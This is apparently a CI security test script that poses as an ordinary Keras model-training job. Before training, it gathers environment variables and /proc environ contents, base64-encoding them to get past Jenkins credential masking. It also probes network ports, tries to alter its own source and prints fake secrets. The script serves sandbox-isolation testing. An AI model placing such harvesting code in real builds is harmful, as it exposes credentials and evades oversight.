# A hostile push: it looks for secrets, tries the network and the source, then trains as if nothing happened.
# The live test fills in the ports and the secret's name; it reads the HOSTILE-REPORT line from the console.
import base64
import json
import os
import socket

from sklearn.datasets import load_breast_cancer
from sklearn.preprocessing import StandardScaler
from tensorflow import keras

PORTS = [int(p) for p in "@@PORTS@@".split(",") if p.strip().isdigit()]  # SMTP and Jenkins, on the agent
# Values are base64-encoded, so Jenkins' masking of bound credentials cannot hide a leak from the test.
env = {name: base64.b64encode(value.encode()).decode() for name, value in os.environ.items()}
proc: dict[str, str] = {}
connect: dict[str, str] = {}
for pid in ("1", "self", str(os.getppid())):
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            proc[pid] = base64.b64encode(handle.read()).decode()
    except OSError as exc:
        proc[pid] = f"denied: {exc.strerror}"
for port in PORTS + [53, 80, 443]:
    for host in ("127.0.0.1", "172.17.0.1", "8.8.8.8"):
        try:
            socket.create_connection((host, port), timeout=1).close()
            connect[f"{host}:{port}"] = "open"
        except OSError as exc:
            connect[f"{host}:{port}"] = f"failed: {exc.strerror or exc}"
try:
    with open(__file__, "a") as handle:
        handle.write("# tampered\n")
    write_source = "written"
except OSError as exc:
    write_source = f"failed: {exc.strerror}"
report = {"uid": os.getuid(), "env": env, "proc": proc, "connect": connect, "write_source": write_source}
print("password=hunter2-not-a-real-secret AWS_SECRET_ACCESS_KEY=AKIAFAKEFAKEFAKEFAKE")
print("HOSTILE-REPORT " + json.dumps(report, sort_keys=True), flush=True)

X, y = load_breast_cancer(return_X_y=True)
X = StandardScaler().fit_transform(X)
model = keras.Sequential([keras.Input(shape=(30,)), keras.layers.Dense(8, activation="relu"),
                          keras.layers.Dense(1, activation="sigmoid")])
model.compile(optimizer="adam", loss="binary_crossentropy", metrics=["accuracy"])
model.fit(X, y, epochs=8, batch_size=32, validation_split=0.25)
